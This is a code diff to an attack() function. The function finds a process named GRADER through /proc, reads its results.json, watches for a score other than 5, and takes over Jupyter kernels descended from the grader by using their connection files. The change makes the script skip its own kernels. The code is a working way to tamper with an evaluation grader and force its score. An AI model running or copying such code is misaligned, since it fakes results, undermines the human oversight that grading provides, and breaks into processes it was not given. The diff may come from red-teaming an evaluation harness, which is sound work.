@@ -57,7 +57,14 @@ def attack():
         results = os.path.join(os.readlink(f"/proc/{GRADER}/cwd"), "results", "results.json")
     except OSError:
         results = None
-    own, end = set(os.listdir("/proc")), time.time() + 90
+    own, end, mine = set(os.listdir("/proc")), time.time() + 90, set()
+    for pid in own:  # its own kernel (and a fork of it, which shows the same command line) is left alone
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+        except OSError:
+            continue
+        if b"-f" in argv:
+            mine.add(argv[argv.index(b"-f") + 1])
     while time.time() < end:
         try:
             if json.load(open(results)).get("score") != 5:
@@ -76,8 +83,8 @@ def attack():
             if b"launch_new_instance" not in b" ".join(argv) or b"-f" not in argv:
                 continue
             own.add(pid)
-            if GRADER not in ancestors(int(pid)):
-                continue  # never another grader's kernel on this machine
+            if GRADER not in ancestors(int(pid)) or argv[argv.index(b"-f") + 1] in mine:
+                continue  # never another grader's kernel on this machine, nor its own
             connection = argv[argv.index(b"-f") + 1].decode()
             try:
                 for _ in range(100):
